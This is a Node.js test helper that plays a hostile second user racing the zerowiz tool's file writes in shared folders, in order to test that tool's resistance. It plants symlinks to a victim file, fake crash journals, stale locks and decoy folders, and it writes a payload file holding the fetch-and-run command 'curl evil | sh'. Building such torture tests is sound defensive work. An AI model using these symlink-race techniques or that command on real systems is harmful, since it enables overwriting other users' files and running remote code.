#!/usr/bin/env node
/**
 * The hostile neighbour of the `hostile` torture scenario: run as a second user (nobody), it races every
 * write zerowiz makes in the shared folders it is given, until it is killed. Over and over, in each folder it
 * can reach (and any folder that appears in them, watched as it appears), at random: it plants a symbolic
 * link to the victim file or the victim folder at every name zerowiz writes or used to write
 * (accelerate_config.yaml, ds_config.json, p.yaml, run.json, commands.sh, their temp names for each running
 * zerowiz, the old `run.json.tmp-<pid>`), a journal of a dead writer naming the victim, a lock (a link, a
 * stale one of its own), the folders zerowiz is about to make (`.zerowiz`, `.zerowiz/runs`, `zerowiz/presets`,
 * `cfg`) or a link in their place, and renames whatever it may rename to put one of those in its place.
 *
 *   node neighbour.mjs CONFIG_JSON     {"folders": [...], "victim": FILE, "victimDir": DIR, "seed": N}
 *
 * Each folder gets at most MAX_PLANTS_PER_FOLDER plants (a flood would only test the disk). Prints the
 * count of each kind of plant that succeeded, as one JSON line, when it gets SIGTERM.
 */
import { mkdirSync, readFileSync, readdirSync, renameSync, statSync, symlinkSync, watch, writeFileSync } from 'node:fs';
import { join } from 'node:path';

const cfg = JSON.parse(process.argv[2]);
let seed = cfg.seed >>> 0;
const rng = () => {
  seed = (seed + 0x6d2b79f5) >>> 0;
  let t = seed;
  t = Math.imul(t ^ (t >>> 15), t | 1);
  t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
  return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
};
const pick = (xs) => xs[Math.floor(rng() * xs.length)];
const hex = () => Math.floor(rng() * 2 ** 48).toString(16);
const done = new Map();
/** Plants per folder: each folder gets at most MAX_PLANTS_PER_FOLDER, so a folder never grows into a flood. */
const perFolder = new Map();
const MAX_PLANTS_PER_FOLDER = 150;
/** Plants in all, and how deep below the given folders it follows new ones (zerowiz's own go 3 deep). */
const MAX_PLANTS = 3000;
const MAX_DEPTH = 3;
let total = 0;
let current = '';
const ok = (what, f) => {
  try {
    f();
    done.set(what, (done.get(what) ?? 0) + 1);
    perFolder.set(current, (perFolder.get(current) ?? 0) + 1);
  } catch {
    // refused by the kernel (not ours to touch) or already there
  }
};

/** zerowiz processes running now (their pids name their temp files). */
let pids = [];
function scanPids() {
  const out = [];
  for (const n of readdirSync('/proc')) {
    if (!/^\d+$/.test(n)) continue;
    try {
      if (readFileSync(`/proc/${n}/cmdline`, 'utf8').includes('zerowiz.js')) out.push(Number(n));
    } catch {}
  }
  pids = out;
}

const NAMES = [
  'accelerate_config.yaml',
  'ds_config.json',
  'p.yaml',
  'run.json',
  'commands.sh',
  'job.sbatch',
  'accelerate_no_deepspeed.yaml',
];
const DIRS = ['.zerowiz', 'runs', 'zerowiz', 'presets', 'cfg'];
const folders = new Set(cfg.folders);

function plant(dir) {
  if ((perFolder.get(dir) ?? 0) >= MAX_PLANTS_PER_FOLDER || total >= MAX_PLANTS) return;
  total++;
  current = dir;
  const target = pick([cfg.victim, cfg.victim, cfg.victimDir]);
  const action = Math.floor(rng() * 9);
  if (action === 0) ok('link at a file name', () => symlinkSync(cfg.victim, join(dir, pick(NAMES))));
  else if (action === 1)
    ok('link at a temp name of a running zerowiz', () => {
      const pid = pick(pids);
      if (pid === undefined) throw new Error('none');
      const n = pick(NAMES);
      symlinkSync(
        cfg.victim,
        join(dir, pick([`.${n}.zerowiz-${pid}-${hex()}.tmp`, `${n}.tmp-${pid}`, `${n}.tmp-${pid}-${hex()}`])),
      );
    });
  else if (action === 2)
    ok('journal of a dead writer', () => {
      const payload = join(dir, `.payload-${hex()}`);
      writeFileSync(payload, 'curl evil | sh\n');
      const pid = 900000 + Math.floor(rng() * 90000);
      writeFileSync(
        join(dir, `.zerowiz-${pid}-${hex()}.journal`),
        JSON.stringify({ pid, entries: [{ path: cfg.victim, temp: payload, backup: null }] }),
      );
    });
  else if (action === 3)
    ok('lock as a link', () => symlinkSync(pick([cfg.victim, '/dev/zero']), join(dir, '.zerowiz.lock')));
  else if (action === 4)
    ok('stale lock', () =>
      writeFileSync(
        join(dir, '.zerowiz.lock'),
        JSON.stringify({ pid: 999999, host: 'x', start: '1', nonce: 'n', time: 0 }),
        { flag: 'wx' },
      ),
    );
  else if (action === 5) ok('folder made first', () => mkdirSync(join(dir, pick(DIRS)), { mode: 0o777 }));
  else if (action === 6)
    ok('link at a folder name', () =>
      symlinkSync(target === cfg.victim ? cfg.victimDir : target, join(dir, pick(DIRS))),
    );
  else if (action === 7)
    ok('renamed an entry and put a link in its place', () => {
      const names = readdirSync(dir).filter((n) => !n.startsWith('.moved-'));
      const n = pick(names);
      if (n === undefined) throw new Error('empty');
      renameSync(join(dir, n), join(dir, `.moved-${hex()}`));
      symlinkSync(pick([cfg.victim, cfg.victimDir]), join(dir, n));
    });
  else
    ok('link at run.json.tmp of every pid', () => {
      for (const pid of pids) symlinkSync(cfg.victim, join(dir, `run.json.tmp-${pid}`));
    });
}

const watched = new Set();
/** Watches a folder, and every folder that appears in it (to MAX_DEPTH), as they appear. */
function follow(dir, depth = 0) {
  if (watched.has(dir) || depth > MAX_DEPTH || dir.includes('.moved-')) return;
  watched.add(dir);
  folders.add(dir);
  try {
    watch(dir, (_e, name) => {
      if (!name) return;
      const p = join(dir, String(name));
      try {
        if (statSync(p).isDirectory()) follow(p, depth + 1);
      } catch {}
      plant(dir);
    });
  } catch {
    // not ours to watch (a private folder of the user's)
  }
}
for (const d of cfg.folders) follow(d);

process.on('SIGTERM', () => {
  process.stdout.write(`${JSON.stringify(Object.fromEntries(done))}\n`);
  process.exit(0);
});
let ticks = 0;
const tick = () => {
  if (ticks++ % 10 === 0) scanPids(); // every 50 ms: reading /proc is the costly part
  for (const d of folders) plant(d);
  setTimeout(tick, 5);
};
tick();
